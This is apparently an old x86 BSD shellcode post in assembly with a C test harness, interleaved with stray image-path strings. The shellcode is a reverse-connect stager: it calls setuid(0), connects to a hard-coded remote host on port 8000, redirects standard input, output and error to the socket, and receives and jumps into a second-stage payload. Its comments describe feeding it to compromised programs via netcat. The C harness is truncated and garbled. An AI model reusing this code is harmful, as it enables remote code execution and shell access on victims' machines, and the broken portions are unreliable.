; sm4x - 2008
; reverse connect dl(shellcode) and execute, exit
;  - i've used this to feed pwnd progs huge messy shellcode ret'ing the results over nc ;)
;  - feed it with a $nc -vvl -p8000 <shellcode_in_file
; setuid(0); socket(); connect(); dups(); recv(); jmp; exit();
; 90 bytes (NULL free dep on remote address)

global _start

xor     eax, eax

; --- setuid(0)
push    eax
push    eax
mov     al, 0x17
push    eax
int     0x80

; --- socket()
push    eax
push    byte 0x01
push    byte 0x02
mov     al, 0x61
push    eax
int     0x80mov     edx, eax

; --- sockaddr_in setup
push    0x90011ac      ; host (.0. is a NULL)
push    0x401f02AA     ; port 8000
mov     eax, esp

; --- setup connect(edx, eax, 0x10);
push    byte 0x10
push    eax
push    edx
xor     eax, eax
mov     al, 0x62
push    eax
int     0x80
jne     done

; --- dup2(0+1+2) - remove if you dont want results sent over the wire
mov     cl, 0x03
xorebx, ebx
push    ebx
push    edx
mov     al, 0x5a
push    eax
int     0x80
inc     ebx
loop    dups; --- recv(fd, *buf, 1028);
xor     eax, eax
push    word 0x0404      ; conf read size here
lea     ecx, [esp-0x0404] ; and here
push    ecx
push    edxmov     al, 0x03
push    eax
int     0x80

; --- jmp to recv shellcode
jmp     ecx          ; run shellcode

; --- exit (optional -> pls exit from jmp shellcode)
xor     eax, eax
inc     eax
push    eax
push    eax
int     0x80


#include <stdio.h>
#include <sys/socket.h>
#include <netinet/in.h>

char code[] = "\x31\xc0\x50\x50\xb0\x17\x50\xcd\x80\x50"

int main(int argc, char **argv) {
 int(*func)();
 printf("Bytes: %d\n", sizeof(code));func = (int (*)()) code;